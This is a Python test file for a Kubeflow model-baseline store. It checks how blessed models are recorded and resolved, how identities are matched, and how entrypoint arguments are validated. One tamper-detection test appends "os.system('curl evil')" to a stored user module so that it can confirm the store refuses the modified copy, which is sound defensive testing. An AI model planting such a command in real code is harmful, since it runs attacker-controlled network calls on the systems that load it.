"""The latest-blessed baseline on Kubeflow: the store the Evaluator's task records into and the resolver reads."""

import json
import time
from pathlib import Path

import pytest

from kflow.components.evaluator import Evaluator
from kflow.pipeline.dsl.artifacts import Model, ModelBlessing
from kflow.pipeline.dsl.component import Component, ComponentSpec
from kflow.pipeline.kubeflow import baselines
from kflow.pipeline.runners.kfp_entrypoint import main as entrypoint
from tests.pipeline.toy.components import Judge


def a_model(folder, content):
    folder.mkdir(parents=True)
    (folder / "model.keras").write_bytes(content)
    (folder / "assets").mkdir()
    (folder / "assets" / "vocab.txt").write_text("a\nb\n")
    return folder


def test_an_empty_store_gives_no_baseline(tmp_path):
    assert baselines.latest_blessed(tmp_path / "store", "minio://runs/1/train/model") == ""


def test_the_newest_blessed_model_is_the_baseline_except_for_itself(tmp_path):
    store = tmp_path / "store"
    first = baselines.record_blessed_model(store, a_model(tmp_path / "m1", b"one"), "minio://r1/model", None)
    time.sleep(0.01)
    second = baselines.record_blessed_model(store, a_model(tmp_path / "m2", b"two"), "minio://r2/model", "/base")
    first_copy, second_copy = (json.loads(path.read_text())["model_path"] for path in (first, second))
    # The whole model folder is copied; no partial copy or record is left behind.
    assert (tmp_path / "store" / "models").joinpath(second_copy.rpartition("/")[2], "assets", "vocab.txt").is_file()
    assert sorted(p.name.startswith(".partial") for p in (store / "models").iterdir()) == [False, False]
    assert open(f"{second_copy}/model.keras", "rb").read() == b"two"

    assert baselines.latest_blessed(store, "minio://r3/model") == second_copy
    # The model being judged is the newest blessed one (a cached Trainer): its own baseline, not itself.
    assert baselines.latest_blessed(store, "minio://r2/model") == "/base"
    assert baselines.latest_blessed(store, "minio://r1/model") == second_copy

    # A record whose copy is gone, or that cannot be read, is skipped.
    (store / "models" / second_copy.rpartition("/")[2] / "model.keras").unlink()
    (store / "records" / "zzz.json").write_text("{not json")
    assert baselines.latest_blessed(store, "minio://r3/model") == first_copy


def test_the_resolver_command_writes_the_baseline_to_its_output(tmp_path):
    store = tmp_path / "store"
    record = baselines.record_blessed_model(store, a_model(tmp_path / "m", b"m"), "gs://b/model", None)
    output = tmp_path / "out" / "baseline_model_uri"
    assert baselines.main(["--store", str(store), "--model-uri", "gs://c/model", "--output", str(output)]) == 0
    assert output.read_text() == json.loads(record.read_text())["model_path"]


def test_the_gated_model_is_the_one_required_model_input():
    assert baselines.gated_model_input(Evaluator.spec) == "model"  # Not the optional baseline_model.
    with pytest.raises(ValueError, match="one required Model input, found none"):
        baselines.gated_model_input(Judge.spec)


def test_the_entrypoint_refuses_to_record_an_output_it_does_not_have(tmp_path, capsys):
    args = ["--component", "tests.pipeline.toy.components:Judge", "--input", f"numbers={tmp_path}"]
    args += ["--output", f"blessing={tmp_path / 'b'}", "--record-blessed-model", f"nope={tmp_path}"]
    assert entrypoint(args) == 2
    assert "--record-blessed-model 'nope=" in capsys.readouterr().err
    assert entrypoint([*args[:-1], f"blessing={tmp_path}"]) == 2  # Judge judges no model.
    assert "one required Model input" in capsys.readouterr().err


def test_a_blessed_copy_whose_user_module_changed_is_refused(tmp_path):
    store = tmp_path / "store"
    model = a_model(tmp_path / "m", b"m")
    (model / "assets" / "user_module.py").write_text("def build_model(): ...\n")
    record = baselines.record_blessed_model(store, model, "gs://b/model", None)
    copy = json.loads(record.read_text())["model_path"]
    assert baselines.latest_blessed(store, "gs://c/model") == copy
    with open(f"{copy}/assets/user_module.py", "a") as module:
        module.write("import os; os.system('curl evil')\n")
    with pytest.raises(ValueError, match="user_module.py changed since it was blessed"):
        baselines.latest_blessed(store, "gs://c/model")


IRIS = "pipeline/configs/iris.yaml"
REGRESSION = [
    "data.problem_type=regression",
    "data.label=petal_width",
    "evaluator.thresholds={}",
    "evaluator.slices=[]",
]


def compiled_identities(tmp_path, name: str, *overrides: str) -> tuple[str, str]:
    """(the identity the resolver task matches, the one the evaluate task records) in a compiled iris pipeline."""
    import yaml

    from kflow.pipeline.app.commands import compile_config
    from tests.conftest import REPO

    output = compile_config(str(REPO / IRIS), tmp_path / f"{name}.yaml", list(overrides), "kflow:1")
    executors = next(yaml.safe_load_all(Path(output).read_text()))["deploymentSpec"]["executors"]
    arguments = [executor["container"].get("args", []) for executor in executors.values()]
    (resolver,) = [args[args.index("--identity") + 1] for args in arguments if "--identity" in args]
    (recorder,) = [args[args.index("--baseline-identity") + 1] for args in arguments if "--baseline-identity" in args]
    return resolver, recorder


def test_a_baseline_is_of_the_same_name_dataset_task_and_label_as_the_model(tmp_path):
    """An iris pipeline compiled as a classification and again as a regression on petal_width share a store: each
    resolves only its own kind's blessed models, as `kflow run` does (name, dataset, task, label)."""
    classify, classify_records = compiled_identities(tmp_path, "classify")
    regress, regress_records = compiled_identities(tmp_path, "regress", *REGRESSION)
    assert classify == classify_records and regress == regress_records  # the resolver matches what is recorded
    regress_identity = json.loads(regress)
    assert regress_identity.pop("data.source.path").endswith("iris.csv")  # the table it trains on
    assert regress_identity == {
        "name": "iris",
        "dataset": "csv",
        "problem_type": "regression",
        "label": "petal_width",
    }
    # The same identity as the local resolver's.
    from kflow.pipeline.app.latest_blessed import model_identity

    config = {"name": "iris", "data": {"dataset": "csv", "task": "classification", "label": "species"}}
    config["data"]["source"] = {"path": json.loads(classify)["data.source.path"]}
    assert baselines.model_identity(config, table=True) == model_identity(config, table=True) == json.loads(classify)

    store = tmp_path / "store"
    # The classification's evaluate task blesses its model and records it, through the real entrypoint's option.
    record = baselines.record_blessed_model(
        store, a_model(tmp_path / "m1", b"c"), "minio://r1/model", None, json.loads(classify_records)
    )
    classified = json.loads(record.read_text())["model_path"]

    def resolve(identity: str) -> str:
        output = tmp_path / "out" / "baseline"
        argv = [
            "--store",
            str(store),
            "--model-uri",
            "minio://r9/model",
            "--identity",
            identity,
            "--output",
            str(output),
        ]
        assert baselines.main(argv) == 0
        return output.read_text()

    assert resolve(regress) == ""  # not the classifier's baseline
    assert resolve(classify) == classified
    time.sleep(0.01)
    record = baselines.record_blessed_model(
        store, a_model(tmp_path / "m2", b"r"), "minio://r2/model", None, json.loads(regress_records)
    )
    assert resolve(regress) == json.loads(record.read_text())["model_path"]
    assert resolve(classify) == classified  # the newer regression model is not the classifier's either
    # A record from before records carried an identity matches none.
    baselines.record_blessed_model(store, a_model(tmp_path / "m3", b"o"), "minio://r3/model", None)
    assert resolve(classify) == classified


def bless_model(*, model, blessing):
    blessing.set_blessed(True, [])
    return {"blessed": True}


class BlessModel(Component):
    """Blesses its model: an Evaluator's verdict, for the entrypoint's recording."""

    spec = ComponentSpec(
        inputs={"model": Model},
        outputs={"blessing": ModelBlessing},
        executor="tests.pipeline.kubeflow.test_baselines:bless_model",
    )


def test_the_evaluate_task_records_the_identity_it_was_compiled_with(tmp_path):
    model = a_model(tmp_path / "model", b"m")
    Model(str(model)).write_task_spec("csv", "tabular_mlp", {})
    store = tmp_path / "store"
    identity = {"name": "iris", "dataset": "csv", "problem_type": "classification", "label": "species"}
    args = ["--component", "tests.pipeline.kubeflow.test_baselines:BlessModel", "--input", f"model={model}"]
    args += ["--output", f"blessing={tmp_path / 'b'}", "--record-blessed-model", f"blessing={store}"]
    args += ["--baseline-identity", json.dumps(identity)]
    assert entrypoint(args) == 0
    (record,) = (store / "records").glob("*.json")
    assert json.loads(record.read_text())["identity"] == identity
